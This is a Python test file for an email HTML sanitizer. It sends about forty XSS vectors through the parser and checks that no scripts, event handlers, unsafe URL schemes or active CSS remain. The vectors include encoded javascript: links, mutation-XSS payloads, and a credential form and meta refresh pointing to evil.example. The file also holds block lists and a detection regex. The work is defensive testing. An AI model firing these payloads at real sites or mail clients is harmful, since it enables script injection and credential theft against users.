"""Hostile HTML in customer mail: nothing that runs, loads or hides survives sanitizing.

Each vector goes through ``parse_mail`` inside an ordinary HTML mail, as an
attacker would send it, and the stored HTML is checked by parsing it again:
no scripting tags, no event handlers, no javascript:, vbscript: or data:
URLs (however they are encoded), and no CSS that loads or runs anything.
Hypothesis then mixes the same fragments into tag soup.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.router.mime import parse_mail

FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "applet", "form",
                  "input", "button", "textarea", "select", "base", "meta", "link", "svg", "math",
                  "template", "noscript", "xml", "import", "portal"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "srcset",
                  "xlink:href", "data", "codebase", "cite", "longdesc", "lowsrc", "dynsrc"}
UNSAFE_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
UNSAFE_CSS = re.compile(r"url\s*\(|expression\s*\(|image-set\s*\(|\\|javascript:|@import",
                        re.IGNORECASE)

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example/login\"><input name=password></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<p style=\"width: expression(alert(1))\">x</p>",
    "<p style=\"color: red; width: exp/**/ression(alert(1))\">x</p>",
    "<p style=\"background-color: url(https://tracker.example/pixel.gif)\">x</p>",
    "<p style=\"background-color: u\\72l(https://tracker.example/p.gif)\">x</p>",
    "<p style=\"color: red; position: fixed; top: 0; left: 0; z-index: 9999\">overlay</p>",
    "<div style=\"behavior: url(x.htc); -moz-binding: url(x.xml#x)\">x</div>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<a href=\"https://ok.example\" onclick=\"steal()\" target=\"_blank\">ok</a>",
    "<img src=\"https://ok.example/a.png\" srcset=\"javascript:alert(1) 1x\">",
    "<video poster=\"javascript:alert(1)\"></video>",
    "<div title=\"&quot; onmouseover=alert(1) x=\">x</div>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
]


class _Inspector(HTMLParser):
    """Collects what a browser would act on in sanitized HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on"):
            self.problems.append(f"<{tag} {name}>: event handler")
        if name in URL_ATTRIBUTES:
            # Browsers ignore whitespace and control characters inside a scheme.
            squeezed = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
            if squeezed.startswith(UNSAFE_SCHEMES) or any(
                    f" {scheme}" in f" {part}" for part in squeezed.split(",")
                    for scheme in UNSAFE_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}>: unsafe URL")
        if name == "style" and UNSAFE_CSS.search(html.unescape(value)):
            self.problems.append(f"<{tag} style={value!r}>: CSS that loads or runs")


def problems_in(sanitized: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(sanitized)
    inspector.close()
    return inspector.problems


def html_mail(fragment: str) -> bytes:
    body = f"<html><body><p>Hello</p>{fragment}<p>Bye</p></body></html>".encode()
    return (b"From: Mallory <mallory@attacker.example>\r\nTo: <support@example.com>\r\n"
            b"Subject: invoice\r\nMessage-ID: <xss@attacker.example>\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: text/html; charset=utf-8\r\n\r\n" + body)


@pytest.mark.parametrize("vector", VECTORS)
def test_sanitize__vector_neutralized(vector: str) -> None:
    mail = parse_mail(html_mail(vector))

    assert mail.html is not None
    assert problems_in(mail.html) == []
    assert "Hello" in mail.html


def test_sanitize__harmless_layout_kept() -> None:
    fragment = ("<table width=\"600\" bgcolor=\"#ffffff\"><tr><td style=\"color: #333; "
                "font-family: Arial; padding: 4px\"><b>Order</b> <a href=\"https://shop.example/o/1\">"
                "view</a> <img src=\"cid:logo@shop\" width=\"20\"></td></tr></table>")

    mail = parse_mail(html_mail(fragment))

    assert mail.html is not None
    assert "color:#333" in mail.html.replace(" ", "")
    assert "href=\"https://shop.example/o/1\"" in mail.html
    assert "src=\"cid:logo@shop\"" in mail.html
    assert "<table" in mail.html


_SOUP = st.lists(st.sampled_from(VECTORS + ["<p>", "</p>", "<div>", "</div>", "<a href=\"",
                                            "\">", "'", "\"", "<", ">", "=", "&#", "x", " "]),
                 max_size=12)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(pieces=_SOUP)
def test_sanitize__tag_soup_neutralized(pieces: list[str]) -> None:
    mail = parse_mail(html_mail("".join(pieces)))

    assert mail.html is not None
    assert problems_in(mail.html) == []
